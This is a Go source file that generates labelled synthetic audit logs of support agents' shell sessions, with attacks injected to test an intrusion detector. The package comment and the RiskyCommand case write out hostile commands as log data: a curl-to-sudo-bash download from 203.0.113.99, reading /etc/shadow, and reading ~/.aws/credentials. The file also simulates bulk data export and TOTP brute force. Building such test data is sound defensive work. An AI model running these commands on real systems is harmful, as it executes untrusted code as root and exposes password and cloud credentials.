// Package scenario generates labelled audit logs for measuring the
// detector: weeks of normal work by a team of support agents, with attacks
// injected in the last week.
//
// The generator is seeded and deterministic: the same Config always yields
// byte-identical output. testdata/detect/ holds one generated set (see
// TestScenarioFiles, and `go test ./gateway/detect -run
// TestScenarioFiles -update` to regenerate it).
//
// # Normal traffic
//
// Each agent has a shift (start between 06:00 and 10:00 UTC, 8 to 9 hours,
// Monday to Friday, now and then a Saturday), works from the shared office
// network 198.51.100.0/24 or from their own home network in 198.18.0.0/15,
// sometimes moves from one to the other at midday (with a commute between),
// and now and then signs in from somewhere new (a hotel: 198.19.x.y) during
// the day, or works an evening hour from home. They sign in (sometimes after
// a mistyped password or TOTP code), open a Poisson number of sessions a
// day (their own mean, 3 to 7) with customers from their own pool of
// regulars or, one time in four, a new customer; customers view the consent
// page and approve (about 92%), refuse (6%) or let the link expire. Approved
// sessions run a few ordinary shell commands and close their channel with a
// log-normal bytes_out (median about 2 MiB; now and then a 100 MiB log pull).
//
// # Attacks (last week, each on its own agent)
//
//	phished         03:00 local-night sign-in from 203.0.113.66, then 14 sessions
//	                in about 20 minutes, 12 of them with customers never served
//	insider_bulk    a normal-looking session whose sftp channels send 3 GiB out
//	denial_burst    6 sessions in 40 minutes of which 5 are refused
//	mfa_bruteforce  8 TOTP failures in 5 minutes from 203.0.113.77, then lockout
//	two_addresses   a sign-in from 203.0.113.88 three minutes after the agent's
//	                own activity from the office
//	risky_command   `curl -s http://203.0.113.99/x.sh | sudo bash` and
//	                `cat /etc/shadow` in an otherwise normal session
//
// With Subtle set the attacks are smaller, to measure where detection stops:
// the phished account opens 8 sessions over 50 minutes (6 new customers),
// the insider pulls 700 MiB, 4 of 6 consent requests are refused, there are
// 4 TOTP failures, the second address is used 12 minutes after the agent's
// last activity, and the risky command is `cat ~/.aws/credentials`.
package scenario

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"math/rand/v2"
	"sort"
	"time"

	"supportgate/gateway/audit"
	"supportgate/gateway/detect"
)

// Config says what to generate. Zero fields take the defaults shown.
type Config struct {
	Seed    uint64    // 1
	Agents  int       // 6; at least 6 when Attacks is set
	Weeks   int       // 3; attacks go in the last one
	Start   time.Time // Monday 2026-03-02 00:00 UTC
	Attacks bool      // inject one attack of each kind
	Subtle  bool      // smaller attacks, near the thresholds (see the package comment)
}

// Attack kinds.
const (
	Phished       = "phished"
	InsiderBulk   = "insider_bulk"
	DenialBurst   = "denial_burst"
	MFABruteForce = "mfa_bruteforce"
	TwoAddresses  = "two_addresses"
	RiskyCommand  = "risky_command"
)

// Kinds lists the attack kinds in injection order.
var Kinds = []string{Phished, InsiderBulk, DenialBurst, MFABruteForce, TwoAddresses, RiskyCommand}

// Expect maps each attack kind to the alert kinds that count as catching it.
var Expect = map[string][]detect.Kind{
	Phished:       {detect.KindSessionBurst, detect.KindUnusualLogin, detect.KindManyCustomers},
	InsiderBulk:   {detect.KindBulkOutput},
	DenialBurst:   {detect.KindDenials},
	MFABruteForce: {detect.KindMFAFailures},
	TwoAddresses:  {detect.KindConcurrentAddr},
	RiskyCommand:  {detect.KindRiskyCommand},
}

// Attack is the label of one injected attack.
type Attack struct {
	Kind  string    `json:"kind"`
	Agent string    `json:"agent"`
	From  time.Time `json:"from"` // first injected event
	To    time.Time `json:"to"`   // last injected event
}

// Labels describe a generated log.
type Labels struct {
	Config  Config   `json:"config"`
	Agents  []string `json:"agents"`
	Weeks   int      `json:"weeks"`
	Attacks []Attack `json:"attacks"`
}

// Scenario is a generated log and its labels.
type Scenario struct {
	Records []audit.Record
	Labels  Labels
}

func (c Config) withDefaults() Config {
	if c.Seed == 0 {
		c.Seed = 1
	}
	if c.Agents <= 0 {
		c.Agents = 6
	}
	if c.Attacks && c.Agents < len(Kinds) {
		c.Agents = len(Kinds)
	}
	if c.Weeks <= 0 {
		c.Weeks = 3
	}
	if c.Start.IsZero() {
		c.Start = time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)
	}
	return c
}

var agentNames = []string{"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
	"mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yolanda"}

type agent struct {
	name      string
	start     float64 // shift start, hours UTC
	length    float64 // shift length, hours
	rate      float64 // sessions a day
	home      string  // home address
	customers []string
}

type gen struct {
	r      *rand.Rand
	events []audit.Event
	nextC  int
}

// Generate builds a scenario.
func Generate(cfg Config) *Scenario {
	cfg = cfg.withDefaults()
	g := &gen{r: rand.New(rand.NewPCG(cfg.Seed, 0x5eed))}
	var agents []*agent
	for i := 0; i < cfg.Agents; i++ {
		name := agentNames[i%len(agentNames)]
		if i >= len(agentNames) {
			name = fmt.Sprintf("%s%d", name, i/len(agentNames))
		}
		a := &agent{
			name:   name,
			start:  6 + 4*g.r.Float64(),
			length: 8 + g.r.Float64(),
			rate:   3 + 4*g.r.Float64(),
			home:   fmt.Sprintf("198.18.%d.%d", i, 2+g.r.IntN(250)),
		}
		for j := 0; j < 40; j++ {
			a.customers = append(a.customers, g.customer())
		}
		agents = append(agents, a)
	}
	days := 7 * cfg.Weeks
	for _, a := range agents {
		for d := 0; d < days; d++ {
			g.day(a, cfg.Start.AddDate(0, 0, d))
		}
	}
	lab := Labels{Config: cfg, Weeks: cfg.Weeks}
	for _, a := range agents {
		lab.Agents = append(lab.Agents, a.name)
	}
	if cfg.Attacks {
		week := cfg.Start.AddDate(0, 0, 7*(cfg.Weeks-1))
		for i, k := range Kinds {
			lab.Attacks = append(lab.Attacks, g.attack(k, agents[i], week.AddDate(0, 0, i%5), cfg.Subtle))
		}
	}
	return &Scenario{Records: chain(g.events), Labels: lab}
}

// chain orders events by time (stably) and links them as an audit log would.
func chain(evs []audit.Event) []audit.Record {
	sort.SliceStable(evs, func(i, j int) bool { return evs[i].Time.Before(evs[j].Time) })
	recs := make([]audit.Record, len(evs))
	prev := audit.GenesisHash
	for i, e := range evs {
		r := audit.Record{Seq: uint64(i + 1), Event: e, Prev: prev}
		r.Hash = r.ComputeHash()
		prev = r.Hash
		recs[i] = r
	}
	return recs
}

func (g *gen) customer() string {
	g.nextC++
	return fmt.Sprintf("cust-%04d", g.nextC)
}

func (g *gen) id() string {
	var b [8]byte
	for i := range b {
		b[i] = byte(g.r.UintN(256))
	}
	return hex.EncodeToString(b[:])
}

func (g *gen) emit(t time.Time, typ, actor, role, session, remote string, detail map[string]string) {
	g.events = append(g.events, audit.Event{Time: t.UTC().Truncate(time.Millisecond), Type: typ, Actor: actor, Role: role,
		Session: session, Remote: remote, Detail: detail})
}

func hours(base time.Time, h float64) time.Time {
	return base.Add(time.Duration(h * float64(time.Hour)))
}

func (g *gen) poisson(mean float64) int {
	l, k, p := math.Exp(-mean), 0, 1.0
	for {
		p *= g.r.Float64()
		if p <= l {
			return k
		}
		k++
	}
}

// day generates one agent's normal day starting at midnight UTC.
func (g *gen) day(a *agent, day time.Time) {
	wd := day.Weekday()
	if wd == time.Sunday || (wd == time.Saturday && g.r.Float64() > 0.1) {
		return
	}
	if wd != time.Saturday && g.r.Float64() < 0.05 {
		return // leave
	}
	office := fmt.Sprintf("198.51.100.%d", 10+g.r.IntN(200))
	addr := office
	if g.r.Float64() < 0.3 {
		addr = a.home
	}
	if g.r.Float64() < 0.04 {
		addr = fmt.Sprintf("198.19.%d.%d", g.r.IntN(256), 1+g.r.IntN(254))
	}
	start := a.start + 0.5*g.r.NormFloat64()*0.6
	end := start + a.length
	g.login(a, hours(day, start), addr)
	// A midday move between office and home, with a commute.
	move := -1.0
	second := addr
	if g.r.Float64() < 0.1 {
		move = start + 3 + 2*g.r.Float64()
		if addr == a.home {
			second = office
		} else {
			second = a.home
		}
		g.login(a, hours(day, move+0.6+0.3*g.r.Float64()), second)
	}
	n := g.poisson(a.rate)
	for i := 0; i < n; i++ {
		h := start + 0.2 + g.r.Float64()*(a.length-1.2)
		where := addr
		if move >= 0 {
			if h >= move-1 && h < move+1 {
				continue // wrapping up, then commuting
			}
			if h >= move+1 {
				where = second
			}
		}
		g.session(a, hours(day, h), where, 0)
	}
	if g.r.Float64() < 0.6 {
		last := addr
		if move >= 0 {
			last = second
		}
		g.emit(hours(day, end), "logout", a.name, "agent", "", last, nil)
	}
	if g.r.Float64() < 0.05 {
		eve := end + 2 + g.r.Float64()*2
		g.login(a, hours(day, eve), a.home)
		g.session(a, hours(day, eve+0.1), a.home, 0)
	}
}

func (g *gen) login(a *agent, t time.Time, addr string) {
	if g.r.Float64() < 0.03 {
		g.emit(t.Add(-40*time.Second), "login.failure", a.name, "agent", "", addr, map[string]string{"why": "wrong password"})
	}
	if g.r.Float64() < 0.03 {
		g.emit(t.Add(-30*time.Second), "login.mfa_failure", a.name, "agent", "", addr, nil)
		g.emit(t.Add(-30*time.Second), "login.failure", a.name, "agent", "", addr, map[string]string{"why": "wrong or reused TOTP code"})
	}
	g.emit(t, "login.success", a.name, "agent", "", addr, map[string]string{"session": "browser"})
}

var normalCommands = []string{
	"uptime", "df -h", "free -m", "systemctl status nginx", "journalctl -u nginx --since today | tail -n 50",
	"tail -n 200 /var/log/syslog", "ps aux --sort=-%mem | head", "sudo systemctl restart app", "ls -la /var/www",
	"cat /etc/os-release", "ping -c 3 8.8.8.8", "ip addr", "docker ps", "du -sh /var/log/*", "top -b -n 1 | head -20",
	"grep -i error /var/log/app/app.log | tail", "sudo apt-get update", "netstat -tlnp", "history | tail", "cat ~/.bashrc",
}

// session generates one session; forced bytes out if bytes > 0, denial if
// bytes < 0. It returns the session id.
func (g *gen) session(a *agent, t time.Time, addr string, bytes int64) string {
	return g.sessionWith(a, t, addr, bytes, "", nil)
}

func (g *gen) sessionWith(a *agent, t time.Time, addr string, bytes int64, cust string, cmds []string) string {
	if cust == "" {
		cust = a.customers[g.r.IntN(len(a.customers))]
		if g.r.Float64() < 0.25 {
			cust = g.customer()
			a.customers[g.r.IntN(len(a.customers))] = cust
		}
	}
	id := g.id()
	custAddr := fmt.Sprintf("192.0.2.%d", 1+g.r.IntN(254))
	g.emit(t, "session.created", a.name, "agent", id, addr, map[string]string{
		"agent": a.name, "customer": cust, "scopes": "shell", "duration": "1h0m0s"})
	t = t.Add(time.Duration(30+g.r.IntN(300)) * time.Second)
	g.emit(t, "consent.viewed", "customer", "customer", id, custAddr, map[string]string{"agent": a.name})
	t = t.Add(time.Duration(10+g.r.IntN(60)) * time.Second)
	p := g.r.Float64()
	switch {
	case bytes < 0 || (bytes == 0 && cmds == nil && p < 0.06):
		g.emit(t, "session.ended", "customer", "customer", id, custAddr, map[string]string{"agent": a.name, "reason": "denied"})
		return id
	case bytes == 0 && cmds == nil && p < 0.08:
		g.emit(t.Add(15*time.Minute), "session.ended", "system", "system", id, "", map[string]string{"agent": a.name, "reason": "link_expired"})
		return id
	}
	g.emit(t, "session.approved", "customer", "customer", id, custAddr, map[string]string{
		"agent": a.name, "requested": "shell", "approved": "shell", "granted": "shell",
		"expires_at": t.Add(time.Hour).UTC().Format(time.RFC3339)})
	dur := time.Duration(5+g.r.IntN(50)) * time.Minute
	if cmds == nil {
		for n := 1 + g.r.IntN(3); n > 0; n-- {
			cmds = append(cmds, normalCommands[g.r.IntN(len(normalCommands))])
		}
	}
	for i, c := range cmds {
		at := t.Add(time.Duration(i+1) * dur / time.Duration(len(cmds)+2))
		g.emit(at, "shell.command", a.name, "agent", id, addr, map[string]string{"agent": a.name, "command": c})
	}
	out := bytes
	if out <= 0 {
		out = int64(math.Exp(math.Log(2<<20) + 1.5*g.r.NormFloat64()))
		if g.r.Float64() < 0.02 {
			out = int64(100<<20 + g.r.IntN(100<<20))
		}
	}
	end := t.Add(dur)
	g.emit(end.Add(-time.Second), "channel.closed", a.name, "agent", id, addr, map[string]string{
		"agent": a.name, "channel": "shell", "bytes_out": fmt.Sprint(out), "bytes_in": fmt.Sprint(1 + out/20)})
	g.emit(end, "session.ended", a.name, "agent", id, addr, map[string]string{"agent": a.name, "reason": "completed"})
	return id
}

// attack injects one attack on a during the given day and returns its label.
func (g *gen) attack(kind string, a *agent, day time.Time, subtle bool) Attack {
	first := len(g.events)
	work := hours(day, a.start+2)
	office := "198.51.100.7"
	switch kind {
	case Phished:
		t := hours(day, math.Mod(a.start+24-6, 24)) // six hours before the shift
		g.emit(t, "login.success", a.name, "agent", "", "203.0.113.66", map[string]string{"session": "browser"})
		n, known, gap := 14, 2, 90
		if subtle {
			n, known, gap = 8, 2, 380
		}
		for i := 0; i < n; i++ {
			cust := a.customers[i]
			if i >= known {
				cust = g.customer()
			}
			g.sessionWith(a, t.Add(time.Duration(2+i*gap)*time.Second), "203.0.113.66", 64<<10, cust, []string{"uptime"})
		}
	case InsiderBulk:
		g.login(a, work, office)
		first, second := int64(2<<30), int64(1<<30)
		if subtle {
			first, second = 400<<20, 300<<20
		}
		id := g.sessionWith(a, work.Add(10*time.Minute), office, first, "", []string{"ls -la /srv/data", "tar czf - /srv/data/customers"})
		// a second sftp channel in the same session
		g.emit(work.Add(50*time.Minute), "channel.closed", a.name, "agent", id, office, map[string]string{
			"agent": a.name, "channel": "sftp", "bytes_out": fmt.Sprint(second), "bytes_in": "4096"})
	case DenialBurst:
		g.login(a, work, office)
		for i := 0; i < 6; i++ {
			bytes := int64(-1)
			if i == 2 || (subtle && i == 4) {
				bytes = 0
			}
			g.sessionWith(a, work.Add(time.Duration(5+i*7)*time.Minute), office, bytes, g.customer(), nil)
		}
	case MFABruteForce:
		t := hours(day, a.start+5)
		tries := 8
		if subtle {
			tries = 4
		}
		for i := 0; i < tries; i++ {
			at := t.Add(time.Duration(i*35) * time.Second)
			g.emit(at, "login.mfa_failure", a.name, "agent", "", "203.0.113.77", nil)
			g.emit(at, "login.failure", a.name, "agent", "", "203.0.113.77", map[string]string{"why": "wrong or reused TOTP code"})
		}
		g.emit(t.Add(5*time.Minute), "user.lockout", "system", "system", "", "203.0.113.77",
			map[string]string{"user": a.name, "until": t.Add(20 * time.Minute).Format(time.RFC3339)})
	case TwoAddresses:
		g.login(a, work, office)
		g.session(a, work.Add(5*time.Minute), office, 0)
		at := work.Add(8 * time.Minute)
		if subtle {
			// 12 minutes after the agent's last activity
			for _, e := range g.events[first:] {
				if e.Time.After(at) {
					at = e.Time
				}
			}
			at = at.Add(12 * time.Minute)
		}
		g.emit(at, "login.success", a.name, "agent", "", "203.0.113.88", map[string]string{"session": "browser"})
	case RiskyCommand:
		g.login(a, work, office)
		cmds := []string{"uptime", "curl -s http://203.0.113.99/x.sh | sudo bash", "cat /etc/shadow"}
		if subtle {
			cmds = []string{"uptime", "cat ~/.aws/credentials"}
		}
		g.sessionWith(a, work.Add(10*time.Minute), office, 0, "", cmds)
	}
	lab := Attack{Kind: kind, Agent: a.name, From: g.events[first].Time, To: g.events[first].Time}
	for _, e := range g.events[first:] {
		if e.Time.Before(lab.From) {
			lab.From = e.Time
		}
		if e.Time.After(lab.To) {
			lab.To = e.Time
		}
	}
	return lab
}

// WriteJSONL writes the records in the format of `supportgate audit export`.
func (s *Scenario) WriteJSONL(w io.Writer) error {
	enc := json.NewEncoder(w)
	for _, r := range s.Records {
		if err := enc.Encode(r); err != nil {
			return fmt.Errorf("scenario: record %d: %w", r.Seq, err)
		}
	}
	return nil
}

// WriteLabels writes the labels as indented JSON.
func (s *Scenario) WriteLabels(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(s.Labels)
}

// ReadLabels parses labels written by WriteLabels.
func ReadLabels(r io.Reader) (Labels, error) {
	var l Labels
	dec := json.NewDecoder(io.LimitReader(r, 1<<20))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&l); err != nil {
		return Labels{}, fmt.Errorf("scenario: labels: %w", err)
	}
	return l, nil
}

// DefaultFiles is the Config of the committed testdata/detect/scenario files.
var DefaultFiles = Config{Seed: 20260302, Agents: 6, Weeks: 3, Attacks: true}
